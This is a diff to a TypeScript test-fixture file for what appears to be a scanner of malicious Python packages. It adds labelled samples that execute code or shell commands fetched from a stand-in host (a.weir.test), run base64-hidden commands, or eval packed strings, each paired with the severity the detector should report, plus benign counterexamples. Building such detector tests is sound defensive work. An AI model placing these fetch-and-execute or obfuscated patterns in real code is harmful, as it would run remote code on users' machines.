@@ -12,8 +12,49 @@ const CODES = Array.from(PAYLOAD)
   .map((char) => char.charCodeAt(0))
   .join(',');
 
+const READABLE = Array.from(
+  { length: 24 },
+  (_, i) =>
+    `# Asks the repository for part ${i} of the version.\ndef part_${i}():\n    return subprocess.check_output(['git', 'describe', '${i}'])\n`,
+)
+  .join('')
+  .replace(/^/, 'import subprocess\n');
+
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: a source that is little but a constant',
+      files: wheel(
+        `class Box:\n    def __init__(self, **given):\n        self.run, self.text = eval, given['text']\n    def open(self):\n        return self.run(''.join(self.text.split('/')))\nBox(text='${'0a1b2c3d/'.repeat(900)}').open()\n`,
+      ),
+      expected: [at('packed-code', 'high', 5, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a function that runs what a server answers',
+      files: wheel('import requests\ndef refresh():\n    exec(requests.get("https://a.weir.test/c").text)\n'),
+      expected: [at('remote-code', 'high', 3, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a plugin from an address that its user gives, which is less sure',
+      files: wheel(
+        'import urllib.request\ndef load(address):\n    exec(urllib.request.urlopen(address).read(), {})\n',
+      ),
+      expected: [at('remote-code', 'medium', 3, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a function that starts what a server answers',
+      files: wheel(
+        'import requests, subprocess\ndef poll():\n    subprocess.run(requests.get("https://a.weir.test/c").text, shell=True)\n',
+      ),
+      expected: [at('remote-command', 'high', 3, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a function with a hidden command',
+      files: wheel(
+        `import base64, os\ndef fix():\n    os.system(base64.b64decode("${hide('id > /dev/null')}").decode())\n`,
+      ),
+      expected: [at('decoded-command', 'high', 3, 'own/__init__.py')],
+    },
     {
       name: 'Python: a request to a hidden address',
       files: wheel(
@@ -109,6 +150,18 @@ export const samples: Samples = {
       expected: [at('hidden-builtin', 'high', 2, 'own/__init__.py')],
     },
     {
+      name: 'Python: a source for people that a tool carries packed',
+      files: wheel(`import base64\nexec(base64.b64decode('${hide(READABLE)}'))\n`),
+      expected: [at('decoded-code', 'medium', 2, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: the same with a program that fetches',
+      files: wheel(
+        `import base64\nexec(base64.b64decode('${hide(READABLE.replaceAll("'git'", "'curl'"))}'))\n`,
+      ),
+      expected: [at('decoded-code', 'high', 2, 'own/__init__.py')],
+    },
+    {
       name: 'a hidden module name',
       files: imported(
         `const cp = require(Buffer.from('${hide('child_process')}', 'base64').toString());\ncp.exec('id');\n`,
@@ -155,6 +208,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a picture in a source',
+      wheel(
+        `import base64, re\nWORD = re.compile("x")\nLOGO = base64.b64decode("${hide('\\x89picture'.repeat(600))}")\n`,
+      ),
+    ),
+    quiet(
+      'Python: what a server answers is parsed',
+      wheel(
+        'import json, requests\ndef refresh():\n    return json.loads(requests.get("https://a.weir.test/c").text)\n',
+      ),
+    ),
     quiet(
       'Python: a bot that runs a program of its own',
       wheel(
